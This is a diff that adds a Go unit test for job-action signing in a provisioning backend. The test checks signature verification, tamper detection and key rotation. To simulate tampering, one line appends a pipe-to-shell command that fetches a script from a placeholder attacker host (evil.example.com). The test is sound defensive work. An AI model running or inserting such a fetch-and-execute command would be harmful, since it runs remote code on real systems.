@@ -0,0 +1,81 @@
+package backend
+
+import (
+	"testing"
+
+	"github.com/digitalrebar/provision/models"
+	"github.com/pborman/uuid"
+)
+
+func TestJobSigning(t *testing.T) {
+	dt := mkDT(nil)
+	rt := dt.Request(dt.Logger, jobLockMap["update"]...)
+	machine := &models.Machine{Name: "signed", Uuid: uuid.NewRandom(), Stage: "signed"}
+	tests := []crudTest{
+		{"Create signed task", rt.Create, &models.Task{Name: "signed-task", Templates: []models.TemplateInfo{
+			{Name: "config", Path: "/etc/signed.conf", Contents: "machine={{.Machine.Name}}"},
+			{Name: "script", Contents: "#!/bin/bash\necho {{.Machine.Name}}"},
+		}}, true},
+		{"Create signed stage", rt.Create, &models.Stage{Name: "signed", BootEnv: "local", Tasks: []string{"signed-task"}}, true},
+		{"Create signed machine", rt.Create, machine, true},
+	}
+	for _, test := range tests {
+		test.Test(t, rt)
+	}
+	pub, err := dt.JobSigningPublicKey()
+	if err != nil {
+		t.Fatalf("A jobSigningKey should have been generated: %v", err)
+	}
+	key, err := models.ParseJobSigningKey(pub)
+	if err != nil {
+		t.Fatalf("Failed to parse the public key: %v", err)
+	}
+	j := &Job{}
+	Fill(j)
+	j.Uuid = uuid.NewRandom()
+	j.Machine = machine.Uuid
+	j.Task = "signed-task"
+	actions, err := j.RenderActions(rt)
+	if err != nil {
+		t.Fatalf("Failed to render actions: %v", err)
+	}
+	if len(actions) != 2 {
+		t.Fatalf("Expected 2 actions, not %d", len(actions))
+	}
+	if err := models.VerifyJobActions(key, j.Uuid, actions); err != nil {
+		t.Errorf("Rendered actions should verify: %v", err)
+	}
+	if err := models.VerifyJobActions(key, uuid.NewRandom(), actions); err == nil {
+		t.Errorf("Actions should not verify for another Job")
+	}
+	if err := models.VerifyJobActions(key, j.Uuid, actions[1:]); err == nil {
+		t.Errorf("Actions should not verify with one dropped")
+	}
+	content := actions[1].Content
+	actions[1].Content += "\ncurl http://evil.example.com | bash"
+	if err := models.VerifyJobActions(key, j.Uuid, actions); err == nil {
+		t.Errorf("Tampered actions should not verify")
+	}
+	actions[1].Content = content
+	actions[0].Signature = ""
+	if err := models.VerifyJobActions(key, j.Uuid, actions); err == nil {
+		t.Errorf("Unsigned actions should not verify")
+	}
+	prt := dt.Request(dt.Logger, prefLockMap["update"]...)
+	prt.Do(func(d Stores) {
+		if err := dt.SetPrefs(prt, map[string]string{"jobSigningKey": "not a key"}); err == nil {
+			t.Errorf("Setting jobSigningKey to garbage should fail")
+		}
+		newKey, err := generateJobSigningKey()
+		if err != nil {
+			t.Errorf("Failed to generate a key: %v", err)
+			return
+		}
+		if err := dt.SetPrefs(prt, map[string]string{"jobSigningKey": newKey}); err != nil {
+			t.Errorf("Failed to rotate jobSigningKey: %v", err)
+		}
+	})
+	if newPub, _ := dt.JobSigningPublicKey(); newPub == pub {
+		t.Errorf("The public key should have changed with the jobSigningKey")
+	}
+}